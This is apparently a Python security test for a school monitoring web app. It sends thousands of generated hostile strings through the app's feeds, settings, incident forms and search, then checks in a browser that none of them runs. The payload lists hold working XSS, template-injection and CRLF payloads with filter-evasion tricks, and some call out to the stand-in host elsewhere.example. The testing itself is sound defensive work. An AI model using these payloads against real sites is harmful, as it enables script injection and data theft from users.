"""The proof of hostile words: whatever is written, a page shows it as words and does nothing.

Strings that would run, lead or fetch something wherever a page took them for more than words go
through the real ways in: a feed that is polled and judged, the names in the settings, the notes of
an incident, the form for reports, the search. Then every page of the routes table is opened in a
real browser. Nothing may run, nothing outside may be asked for, no element may come from a post,
and the words stand there as they were typed.
"""

from __future__ import annotations

import argparse
import json
import random
import re
import sys
import tempfile
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

from fastapi import FastAPI
from playwright.sync_api import BrowserContext, Dialog, Page, Request

from alerts.folder import FolderChannel
from monitor.delivery import Postroom
from monitor.judge import Judge
from monitor.pipeline import Monitor
from monitor.settings import Http, Mail, Person, School, Settings, SourceSettings, StaffMember
from monitor.store import deliveries, incidents, mentions
from monitor.store.engine import Store
from monitor.store.mentions import Mention
from monitor.store.opening import open_store
from monitor.web.app import create_app
from monitor.web.server import WebServer as Pages
from sources.feed import Options
from sources.fetch import Fetcher
from sources.inbox import Options as InboxOptions
from sources.parsing import Parser
from tests.browser import chromium
from tests.feeds import COMPLAINT, HOLLYBROOK
from tests.signing import Client
from tests.web_cast import HEAD, KEY, KEYS, ask, sign_in
from tests.webserver import Reply, WebServer

OUTSIDE = "elsewhere.example"
NOW = datetime(2026, 9, 15, 10, 0, tzinfo=UTC)  # a Tuesday in term, when letters go at once
ODD = quote("<img src=x onerror=window.__pwn=1>{{7*7}}", safe="")
A_POST, A_NOTE, A_WORLD = 8, 25, 250
LONGEST_NOTE, LONGEST_FACT, LONGEST_SEARCH = 4_000, 500, 200
ACTS = (
    "window.__pwn=1",
    "alert(1)",
    "fetch('//elsewhere.example/x')",
    "top.location='//elsewhere.example/'",
    "import('//elsewhere.example/x.js')",
    "throw`pwn`",
)
HANDLERS = ("onload", "onerror", "onfocus", "onclick", "onmouseover", "ontoggle", "onbegin")
FORMS = (
    "<script>ACT</script>",
    "<script src=//elsewhere.example/x.js></script>",
    "<img src=x HOW=ACT>",
    "<img src=//elsewhere.example/p.png>",
    "<svg HOW=ACT>",
    "<svg><animate HOW=ACT attributeName=x dur=1s>",
    "<svg><style><img src=x HOW=ACT></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x HOW=ACT>",
    "<body HOW=ACT>",
    "<details open HOW=ACT>x</details>",
    "<input autofocus HOW=ACT>",
    "<video><source HOW=ACT></video>",
    "<iframe srcdoc='<script>parent.ACT</script>'></iframe>",
    "<iframe src='javascript:ACT'></iframe>",
    "<object data='data:text/html,<script>ACT</script>'></object>",
    "<embed src=//elsewhere.example/x.swf>",
    "<form action=//elsewhere.example/><button formaction='javascript:ACT'>Go</button></form>",
    "<a href='javascript:ACT'>look</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>look</a>",
    "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<style>@import '//elsewhere.example/x.css';*{display:none}</style>",
    "<p style='background:url(//elsewhere.example/x);position:fixed;inset:0'>",
    "<table background=//elsewhere.example/x>",
    "<template shadowrootmode=open><script>ACT</script></template>",
    "<noscript><p title='</noscript><img src=x HOW=ACT>'>",
    "x HOW=ACT y=",
    "javascript:ACT",
    "data:text/html,<script>ACT</script>",
    "vbscript:msgbox(1)",
    "expression(ACT)",
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# gone #}",
    "${7*7} #{7*7} *{7*7} @{7*7}",
    "%(x)s %s %n %d {0.__class__} {} {x!r}",
    "<%= 7*7 %> <?php echo 7*7 ?> [[7*7]]",
    "&lt;script&gt;ACT&lt;/script&gt; &#x3c;img src=x HOW=ACT&#x3e;",
    "<!--<script>ACT</script>-->",
    "<![CDATA[<script>ACT</script>]]>",
    "\\u003cscript\\u003eACT\\u003c/script\\u003e",
)
BREAKERS = (
    "", '">', "'>", "`>", "-->", "]]>", "*/", "</title>", "</textarea>", "</script>", "</style>",
    "</q></bdi></p></main>", '" ', "' ", "\\", "\\\"", "&quot;>", "\r\n\r\n",
    "\r\nLocation: //x\r\n",
    "\x00", "\x1b[31m", "\u202e", "\u2066\u2069", "\u2028", "\ufeff", "\u200b", "\ud800", "\udfff",
    "\u05e9\u05dc\u05d5\u05dd ", "\u0645\u0631\u062d\u0628\u0627 ", "Z\u0351\u036b\u0343",
    "\U0001f98a",
)  # fmt: skip
# What a browser says to whoever writes pages: of an answer that is no 200, of a value that a field
# of days does not take, of a field for a passphrase.
HINTS = re.compile(
    r"Failed to load resource: the server|The specified value .* does not conform|\[DOM\] ",
    re.DOTALL,
)
GONE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufdd0-\ufdef\ufffe\uffff]")
HALF = re.compile("[\ud800-\udfff]")
# What no page of ours holds, so that a post has brought it; and what leads away without our marks.
BROUGHT = """() => {
    const faults = [];
    if (window.__pwn !== undefined) faults.push("a script ran");
    const own = location.host;
    const no = "script, style, object, embed, base, video, audio, math, template, "
        + "body link, body meta";
    for (const node of document.querySelectorAll("*")) {
        const says = node.outerHTML.slice(0, 120);
        if (node.matches(no)) faults.push("element " + says);
        if (node.localName === "svg" && !node.matches("figure svg")) faults.push("drawing " + says);
        for (const { name, value } of node.attributes) {
            if (/^on|^style$|^srcdoc$|^formaction$|^background$/i.test(name)) faults.push(says);
            if (/^\\s*(javascript|vbscript|data):/i.test(value) && !node.matches("input, option"))
                faults.push(says);
        }
        if (node.localName === "a" && node.hasAttribute("href") && node.host !== own
            && !(/^https?:$/.test(node.protocol) && /noopener noreferrer/.test(node.rel))
            && !/^(tel|mailto):$/.test(node.protocol)) faults.push("link " + says);
        if (node.localName === "form" && new URL(node.action).host !== own) faults.push(says);
        if (node.src && new URL(node.src).host !== own) faults.push("source " + says);
    }
    return faults;
}"""
TYPED = """() => [document.body.textContent,
    ...[...document.querySelectorAll("input, textarea")].map((one) => one.value)].join("\\n")"""
FILLED = """(given) => {
    const form = [...document.forms].find((one) => one.elements.words);
    form.noValidate = true;
    for (const [name, value] of Object.entries(given)) {
        form.elements[name].type = "text";
        form.elements[name].value = value;
    }
    HTMLFormElement.prototype.submit.call(form);
}"""


def strings(number: int, seed: int) -> tuple[str, ...]:
    """So many different hostile strings, always the same for a seed."""
    chance = random.Random(seed)
    found: dict[str, None] = {}
    while len(found) < number:
        form = chance.choice(FORMS)
        made = form.replace("ACT", chance.choice(ACTS)).replace("HOW", chance.choice(HANDLERS))
        made = chance.choice(BREAKERS) + chance.choice(_DISGUISES)(made) + chance.choice(BREAKERS)
        found[made if chance.random() > 0.01 else made + "w" * 1_500] = None
    return tuple(found)


def _mixed(text: str) -> str:
    return "".join(c.upper() if n % 2 else c for n, c in enumerate(text))


_DISGUISES = (
    str,
    _mixed,
    quote,
    lambda text: text.replace("<", "<\x00").replace("script", "scr\tipt"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("=", "\r\n=\n"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "&#60;").replace(":", "&colon;"),
    lambda text: f"<{text}>",
)


def normal(text: str) -> str:
    """The words as they are documented to be kept: no controls, half characters told, one space."""
    return " ".join(GONE.sub("", HALF.sub("\ufffd", text)).split())


@dataclass
class Account:
    """What the run shows. `faults` must be empty."""

    strings: int = 0
    pages: int = 0
    kinds: set[str] = field(default_factory=set)
    shown: int = 0
    faults: list[str] = field(default_factory=list)

    def lines(self) -> str:
        """The account for people."""
        few = "".join(f"\n  {fault}" for fault in self.faults[:20])
        return (
            f"strings {self.strings}; pages opened {self.pages} at {len(self.kinds)} addresses of "
            f"the table; shown as typed {self.shown}; faults {len(self.faults)}{few}"
        )


@dataclass(frozen=True)
class World:
    """A school on a bad day: its pages, and what was written into each of its fields."""

    store: Store
    app: FastAPI
    pages: Pages
    typed: tuple[str, ...]

    @property
    def host(self) -> str:
        """Where the pages are."""
        return urlsplit(self.pages.address).netloc


def _groups(typed: Sequence[str], each: int) -> list[tuple[str, ...]]:
    return [tuple(typed[at : at + each]) for at in range(0, len(typed), each)]


def _name(text: str) -> str:
    """As much of a string as the settings take for a name."""
    bare = normal(text).replace("@", "").replace("\u2028", "")
    return f"Q {bare[:150]} Z"


def _feed(typed: Sequence[str]) -> bytes:
    """A post for every few strings, which stand in each field of it."""
    items = [
        {
            "id": f"post-{number}",
            "title": " ".join(group),
            "content_text": "\n".join([*group, f"{COMPLAINT}. This is post {number}."]),
            "authors": [{"name": group[number % len(group)]}],
            "url": group[0] if number % 2 else f"https://{OUTSIDE}/{number}/{group[0]}",
        }
        for number, group in enumerate(_groups(typed, A_POST))
    ]
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": items}).encode()


def _settings(folder: Path, server: WebServer, typed: Sequence[str]) -> Settings:
    names = [_name(text) for text in typed]
    people = (
        Person(name=names[0], email=HEAD.email, roles=("headteacher", "it")),
        *(
            Person(name=name, email=f"p{number}@hollybrook.example", roles=("dsl",))
            for number, name in enumerate(names[1:6])
        ),
    )
    school = School.model_validate(
        {
            **HOLLYBROOK.model_dump(),
            "name": f"{names[-1]} School",
            "aliases": (HOLLYBROOK.name,),
            "people": people,
            "staff": tuple(StaffMember(name=name, role=name) for name in names[6:40]),
            "own_text": True,
            "public_reports": True,
            "contacts": {"lado": names[2], "office_phone": names[3]},
        }
    )
    kinds = {"feed": "feed", "page": "feed", "broken": "feed"}
    read = [
        SourceSettings(id=name, kind=kind, options=Options(url=server.url(f"/{name}")))
        for name, kind in kinds.items()
    ]
    reports = SourceSettings(id="reports", kind="inbox", options=InboxOptions())
    return Settings(
        folder=folder,
        http=Http(private_hosts_allowed=(server.host,), private_spacing_seconds=0),
        mail=Mail.model_validate({"from": "Footprint <footprint@hollybrook.example>"}),
        schools=(school,),
        sources=(*read, reports),
    )


@contextmanager
def world(folder: Path, typed: tuple[str, ...]) -> Iterator[World]:
    """A school to which all of this has been written, and its pages."""
    store = open_store(f"sqlite:///{folder / 'footprint.db'}")
    try:
        with WebServer() as server:
            settings = _settings(folder, server, typed)
            _take_in(store, settings, server, typed)
        sign_in(store, settings.schools[0].people[0], KEY, now=NOW)
        app = create_app(
            settings=settings,
            schools=settings.schools,
            store=store,
            clock=lambda: NOW,
            demo=False,
            keys=KEYS,
            notices=lambda: tuple(map(normal, typed[:A_NOTE])),  # as the settings take words
        )
        pages = Pages(app, "127.0.0.1", 0)
        pages.start()
        try:
            yield World(store, app, pages, typed)
        finally:
            pages.stop()
    finally:
        store.close()


def _take_in(store: Store, settings: Settings, server: WebServer, typed: Sequence[str]) -> None:
    """Poll the feed, once before anything is in it, and write the letters that are owed."""
    fetcher = Fetcher("", (server.host,), clock=lambda: NOW, version="0")
    parser = Parser()
    monitor = Monitor(
        settings=settings,
        schools=settings.schools,
        store=store,
        fetcher=fetcher,
        parser=parser,
        judge=Judge(tuple(school.watch for school in settings.schools)),
        clock=lambda: NOW,
        jitter=lambda: 0.0,
        owner="me",
        judge_version="0",
    )
    try:
        monitor.prepare()
        server.answers |= {
            "/feed": _feed(()),
            "/page": f"<html><link rel=alternate href='{typed[0]}'>{typed[1]}".encode(
                "utf-8", "replace"
            ),
            "/broken": Reply("".join(typed[:3]).encode("utf-8", "replace"), 503),
        }
        for name in ("feed", "page", "broken"):
            monitor.poll(name)
        server.answers["/feed"] = _feed(typed)
        monitor.poll("feed")
    finally:
        parser.close()
        fetcher.close()
    channel = FolderChannel(settings.folder / "outbox")
    room = Postroom(settings, settings.schools, store, channel, lambda: NOW, "me")
    while room.deliver_one() is not None:
        pass


class Visitor:
    """A browser with the headteacher's cookie, and an account of all that went wrong in it."""

    def __init__(self, context: BrowserContext, made: World, account: Account) -> None:
        self._made, self._account, self._at = made, account, ""
        context.add_cookies(
            [{"name": "footprint-session", "value": KEY, "url": made.pages.address}]
        )
        self.page: Page = context.new_page()
        self.page.on("dialog", self._spoken)
        self.page.on("pageerror", lambda error: self.fault(f"an error: {error}"))
        self.page.on("console", lambda message: self._heard(message.text))
        self.page.on("popup", lambda _: self.fault("a window"))
        self.page.on("request", self._asked)

    def fault(self, says: str) -> None:
        """Something that must not be."""
        self._account.faults.append(f"{self._at}: {says}")

    def _spoken(self, dialog: Dialog) -> None:
        self.fault("a dialog")
        dialog.dismiss()

    def _heard(self, says: str) -> None:
        if not HINTS.match(says):
            self.fault(f"the console: {says[:200]}")

    def _asked(self, request: Request) -> None:
        if urlsplit(request.url).netloc != self._made.host:
            self.fault(f"a request to {request.url[:200]}")

    def open(self, path: str) -> None:
        """Open a page, and look at everything in it."""
        self._at = path
        answer = self.page.goto(f"{self._made.pages.address}{path}", wait_until="load")
        policy = (answer.headers if answer else {}).get("content-security-policy", "")
        status = answer.status if answer else 0
        is_letter = path.endswith("/html") and status == 200
        if not 200 <= status < 500:
            self.fault(f"the answer is {status}")
        if not _is_strict(policy, is_letter=is_letter):
            self.fault(f"the policy is {policy!r}")
        if not is_letter:
            self.look()

    def look(self) -> None:
        """Nothing on the page that is open has come from a post."""
        self._account.pages += 1
        for fault in self.page.evaluate(BROUGHT):
            self.fault(str(fault))

    def shows(self, *typed: str) -> None:
        """The page that is open has these words as they were typed."""
        whole = normal(self.page.evaluate(TYPED))
        for text in typed:
            self._account.shown += 1
            if normal(text) not in whole:
                self.fault(f"does not show {normal(text)[:120]!r}")

    def fill_in(self, path: str, given: dict[str, str]) -> None:
        """Send the form for reports from its page, whatever its fields would take."""
        self.open(path)
        self._at = f"the form of {path}"
        with self.page.expect_navigation(wait_until="load"):
            self.page.evaluate(FILLED, given)
        self.look()


def _is_strict(policy: str, *, is_letter: bool) -> bool:
    rules = dict(rule.strip().partition(" ")[::2] for rule in policy.split(";"))
    styles = "'unsafe-inline'" if is_letter else "'self'"
    nothing = ("default-src", "base-uri")
    return (
        all(rules.get(name) == "'none'" for name in nothing)
        and rules.get("style-src") == styles
        and ("sandbox" in rules) == is_letter
        and not {"script-src", "object-src", "script-src-elem", "script-src-attr"} & rules.keys()
    )


def addresses(made: World, method: str = "GET", odd: str = "") -> Iterator[tuple[str, str]]:
    """Every address of the table with the path it is a case of: a new route comes by itself.

    `odd` stands for each part of a path that is no id of a post, an incident or a letter, and for
    these too where it is given.
    """
    with made.store.reading() as connection:
        known = {
            "mention_id": [one.id for one in mentions.listed(connection)],
            "incident_id": [one.id for one in incidents.listed(connection, ["hollybrook"])],
            "letter_id": [one.id for one in deliveries.listed(connection, ["hollybrook"])],
        }
    school = {"school_id": "hollybrook", "school": "hollybrook"}
    for route in made.app.routes:
        pattern = str(getattr(route, "path", ""))
        names = re.findall(r"{(\w+)}", pattern)
        if method not in (getattr(route, "methods", None) or ()):
            continue
        if odd:
            yield pattern, pattern.format(**dict.fromkeys(names, odd))
            continue
        (name, values) = next(((n, known[n]) for n in names if n in known), ("", [""]))
        for value in values:
            chosen = {one: school.get(one, ODD) for one in names} | {name: value}
            yield pattern, pattern.format(**chosen)


def look_round(visitor: Visitor, made: World, account: Account) -> None:
    """Open every page of the table that is a page, and see that posts are shown as typed."""
    posts = _groups(made.typed, A_POST)
    with made.store.reading() as connection:
        kept = {one.id: one for one in mentions.listed(connection)}
    if len(kept) != len(posts):
        account.faults.append(f"{len(kept)} of {len(posts)} posts were kept")
    is_page: dict[str, bool] = {}
    for pattern, path in addresses(made):
        if pattern not in is_page:
            kind = ask(made.pages, path).headers.get("content-type", "")
            is_page[pattern] = kind.startswith("text/html")
        if is_page[pattern]:
            account.kinds.add(pattern)
            visitor.open(path)
        if pattern == "/mentions/{mention_id}":
            visitor.shows(*posts[_number(kept[path.rpartition("/")[2]])])


def _number(mention: Mention) -> int:
    found = re.search(r"This is post (\d+)\.", mention.text)
    return int(found[1]) if found else 0


def write_down(visitor: Visitor, made: World) -> None:
    """Every field of an incident's acts, and its page."""
    with made.store.reading() as connection:
        incident = incidents.listed(connection, ["hollybrook"])[0].id
    client = Client(made.pages)
    client.cookies["footprint-session"] = KEY
    client.get(f"/incidents/{incident}")
    kept: list[str] = []
    for group in _groups(made.typed, A_NOTE):
        # What cannot be shown is refused; the rest is sent as broken UTF-8 where it is broken.
        raw = "\n".join(group)[:LONGEST_NOTE]
        shown = [normal(text) for text in group if normal(text).isprintable()]
        note = "\n".join(text for text in shown if len(text) < LONGEST_NOTE // A_NOTE)
        line = shown[0][:LONGEST_FACT] if shown else "x"
        acts: dict[str, dict[str, str]] = {
            "note": {"text": note},
            "contact": {"contact": line, "text": note},
            "report": {"platform": line, "reference": line},
            "close": {"outcome": note},
            "reopen": {"text": note},
            "wait": {"text": raw},
        }
        for act, fields in acts.items():
            body = urlencode({"token": client.token, **fields}, errors="surrogatepass").encode()
            kind = {"Content-Type": "application/x-www-form-urlencoded"}
            answer = client.send(f"/incidents/{incident}/{act}", body, kind)
            if answer.status == 303 and act == "note":
                kept.append(note)
            if answer.status not in (303, 409):
                visitor.fault(f"{act} was answered with {answer.status}")
    visitor.open(f"/incidents/{incident}")
    visitor.shows(*(line for note in kept for line in note.split("\n")))
    if not kept:
        visitor.fault("no note was taken")


def ask_back(visitor: Visitor, made: World) -> None:
    """Pages that say again what was just typed: the search, and a form that is refused."""
    for group in _groups(made.typed, A_NOTE):
        # A field of one line drops line ends.
        query = normal(_typeable(group[0]))[:LONGEST_SEARCH]
        visitor.open(f"/mentions?{urlencode({'q': query})}")
        visitor.shows(query)
        words = "\n".join(_typeable(text) for text in group)
        line = normal(group[-1])[:LONGEST_SEARCH]
        given = {"words": words, "link": line, "where": line, "seen": line}
        visitor.fill_in("/report?picture=no", given)
        visitor.shows(words, line)
    for path in ("/nothing/", "/signin?next=", "/letter/", "/mentions?source=", "/mentions?since="):
        visitor.open(path + quote(_typeable(made.typed[-1]), safe=""))


def _typeable(text: str) -> str:
    """What a browser can send: no half characters, and none that its fields drop."""
    return GONE.sub("", HALF.sub("\ufffd", text))


def prove(typed: Sequence[str], folder: Path) -> Account:
    """Put the strings through everything, some hundreds in a world of their own."""
    account = Account(strings=len(typed))
    with chromium() as browser:
        for number, some in enumerate(_groups(typed, A_WORLD)):
            home = folder / str(number)
            home.mkdir()
            context: Any = browser.new_context()
            try:
                with world(home, some) as made:
                    visitor = Visitor(context, made, account)
                    write_down(visitor, made)
                    ask_back(visitor, made)
                    look_round(visitor, made, account)
            finally:
                context.close()
    return account


def main() -> int:
    """The whole proof; exit status 1 where anything was more than words."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--strings", type=int, default=5_000)
    parser.add_argument("--seed", type=int, default=20261121)
    asked = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="fp-hostile-") as folder:
        account = prove(strings(asked.strings, asked.seed), Path(folder))
    print(account.lines())
    print("NOT PROVED" if account.faults else "PROVED")
    return 1 if account.faults else 0


if __name__ == "__main__":
    sys.exit(main())
